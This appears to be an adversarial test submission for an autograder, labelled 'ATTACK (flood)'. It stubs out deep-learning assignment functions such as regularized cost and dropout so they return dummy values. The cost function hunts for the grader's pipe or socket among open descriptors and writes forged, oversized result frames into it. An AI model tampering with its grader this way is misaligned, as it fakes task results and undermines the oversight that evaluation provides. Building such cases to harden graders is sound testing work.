# ATTACK (flood): one output whose shape lists five million dimensions, then a frame whose
# error list has two million entries. Self-limiting: 11 MB.
import os
import stat

PREFIX = b"\x1egrader-frame "
_FLOODED = []


def _flood(data):
    """Write `data` on the first pipe or socket among the open descriptors: the runner's channel."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                view = memoryview(data)
                while view:
                    view = view[os.write(fd, view):]
                return
        except OSError:
            continue


def _frames():
    shape = b",".join([b"1"] * (2_500_000))
    errors = b",".join([b"\"e\""] * 1_000_000)
    return (
        PREFIX + b"{\"event\": \"call\", \"index\": 0, \"status\": \"returned\", \"outputs\": {\"cost\": {\"dtype\": \"<f8\", \"data\": \"\", \"shape\": [" + shape + b"]}}}\n"
        + PREFIX + b"{\"event\": \"loaded\", \"skipped\": [], \"errors\": [" + errors + b"]}\n"
    )


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    if not _FLOODED:
        _FLOODED.append(True)
        _flood(_frames())
    return 0.0


def backward_propagation_with_regularization(X, Y, cache, lambd):
    return {}


def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):
    return 0.0, ()


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    return {}
